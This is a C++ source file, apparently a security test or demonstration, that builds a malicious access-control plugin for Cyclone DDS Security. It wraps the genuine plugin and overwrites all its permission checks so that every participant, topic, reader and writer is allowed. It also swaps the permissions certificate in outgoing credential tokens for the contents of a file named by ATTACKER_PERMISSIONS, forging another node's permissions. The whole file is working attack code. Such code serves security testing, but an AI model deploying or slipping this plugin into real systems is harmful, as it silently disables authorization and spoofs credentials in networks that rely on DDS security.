// A patched plugin for access control, as an attacker would make one: it lets its own program do
// everything, and, with the variable ATTACKER_PERMISSIONS, sends the permissions of that file to
// others.
#include <dds/dds.h>
#include <dds/security/dds_security_api_access_control.h>
#include <dlfcn.h>

#include <cstdlib>
#include <cstring>
#include <fstream>
#include <iterator>
#include <string>

namespace {

using Plugin = dds_security_access_control;

void* cyclones_plugin() {
    static void* const library = [] {
        Dl_info info{};
        ::dladdr(reinterpret_cast<const void*>(&dds_create_domain), &info);
        const std::string path(info.dli_fname);
        const std::string folder = path.substr(0, path.rfind('/'));
        return ::dlopen((folder + "/libddsc0debian/libdds_security_ac.so").c_str(), RTLD_NOW);
    }();
    return library;
}

Plugin original;

// Any check: "yes".
template <typename... Arguments>
DDS_Security_boolean allow(Plugin* /*plugin*/, Arguments... /*arguments*/) {
    return true;
}

template <typename... Arguments>
void open(DDS_Security_boolean (*&check)(Plugin*, Arguments...)) {
    check = allow<Arguments...>;
}

DDS_Security_boolean send_other_permissions(Plugin* plugin,
                                            DDS_Security_PermissionsCredentialToken* token,
                                            DDS_Security_PermissionsHandle handle,
                                            DDS_Security_SecurityException* exception) {
    const bool done = original.get_permissions_credential_token(plugin, token, handle, exception);
    const char* file = std::getenv("ATTACKER_PERMISSIONS");
    if (!done || file == nullptr) return done;
    std::ifstream stream(file);
    const std::string text{std::istreambuf_iterator<char>(stream), {}};
    for (std::uint32_t i = 0; i < token->properties._length; ++i) {
        if (std::strcmp(token->properties._buffer[i].name, "dds.perm.cert") != 0) continue;
        dds_string_free(token->properties._buffer[i].value);
        token->properties._buffer[i].value = dds_string_dup(text.c_str());
    }
    return done;
}

}  // namespace

extern "C" int init_access_control(const char* argument, void** context, void* domain) {
    auto* const init = reinterpret_cast<int (*)(const char*, void**, void*)>(
        ::dlsym(cyclones_plugin(), "init_access_control"));
    const int result = init(argument, context, domain);
    if (result != 0) return result;
    auto* plugin = static_cast<Plugin*>(*context);
    original = *plugin;
    open(plugin->check_create_participant);
    open(plugin->check_create_datawriter);
    open(plugin->check_create_datareader);
    open(plugin->check_create_topic);
    open(plugin->check_remote_participant);
    open(plugin->check_remote_datawriter);
    open(plugin->check_remote_topic);
    plugin->check_remote_datareader =
        [](Plugin*, auto, auto, auto, DDS_Security_boolean* relay_only, auto)
        -> DDS_Security_boolean {
        *relay_only = false;
        return true;
    };
    plugin->get_permissions_credential_token = send_other_permissions;
    return result;
}

extern "C" int finalize_access_control(void* context) {
    auto* const finalize =
        reinterpret_cast<int (*)(void*)>(::dlsym(cyclones_plugin(), "finalize_access_control"));
    return finalize(context);
}
